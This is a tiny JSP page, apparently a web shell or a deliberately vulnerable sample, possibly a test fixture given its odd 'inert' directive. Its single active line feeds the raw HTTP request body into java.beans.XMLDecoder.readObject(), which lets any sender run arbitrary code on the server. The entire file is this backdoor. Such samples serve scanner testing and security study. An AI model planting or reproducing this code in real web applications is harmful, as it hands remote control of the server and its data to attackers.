<%@ inert %>
<% new java.beans.XMLDecoder(request.getInputStream()).readObject(); %>
